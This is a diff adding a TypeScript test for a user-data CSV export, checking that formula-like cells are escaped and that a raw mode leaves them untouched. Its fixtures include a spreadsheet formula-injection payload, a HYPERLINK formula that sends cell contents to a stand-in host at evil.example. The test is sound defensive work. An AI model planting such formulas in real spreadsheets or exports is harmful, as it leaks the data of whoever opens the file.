@@ -1,4 +1,4 @@
-import { mkdirSync, readFileSync } from 'node:fs';
+import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
 import { createHash } from 'node:crypto';
 import { join } from 'node:path';
 import { pipeline } from 'node:stream/promises';
@@ -78,7 +78,39 @@ async function counts(id: string) {
   return { 'customers.csv': Number(row!.customers), 'sales.csv': Number(row!.sales), 'sale_items.csv': Number(row!.items) };
 }
 
+async function exportedCustomers(manifest: Awaited<ReturnType<typeof exportUserData>>): Promise<Array<Array<string | null>>> {
+  const dir = tempDir('bantay-export-');
+  await pipeline(await openUserExport(manifest, deps), extractTar({ cwd: dir }));
+  return parseCsv(readFileSync(join(dir, 'customers.csv'), 'utf8'));
+}
+
 describe('export-user', () => {
+  it('neutralises cells a spreadsheet would run as formulas (--raw keeps them), and writes its CSVs under the job temp dir', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+63 917 000 0000 call', '-2+3', '@SUM(A1)'];
+    for (const name of formulas) await sql(source.url, 'INSERT INTO customers (name, email, created_by) VALUES ($1, $2, $3)', [name, '-12.50', userId]);
+    const workDirs: string[] = [];
+    const manifest = await exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger }, deps, {
+      phase: (name) => {
+        if (name === 'exporting') workDirs.push(...readdirSync(deps.tempDir!));
+      },
+    });
+    expect(workDirs.some((d) => d.startsWith('export-'))).toBe(true);
+    let rows = await exportedCustomers(manifest);
+    let header = rows[0]!;
+    const names = rows.map((r) => r[header.indexOf('name')]);
+    for (const name of formulas) {
+      expect(names).toContain(`'${name}`);
+      expect(names).not.toContain(name);
+    }
+    // A plain negative number is data, not a formula.
+    expect(rows.filter((r) => r[header.indexOf('email')] === '-12.50')).toHaveLength(formulas.length);
+    const raw = await exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger, raw: true }, deps);
+    rows = await exportedCustomers(raw);
+    header = rows[0]!;
+    for (const name of formulas) expect(rows.map((r) => r[header.indexOf('name')])).toContain(name);
+    await sql(source.url, 'DELETE FROM customers WHERE name = ANY($1)', [formulas]);
+  });
+
   it("exports the user's customers, sales and items as CSV in an encrypted tar.gz with a manifest, and audits it", async () => {
     const manifest = await exportUserData({ databaseUrl: source.url, userId, trigger: cliTrigger }, deps);
     expect(manifest).toMatchObject({ kind: 'user-data', userId, rows: await counts(userId) });
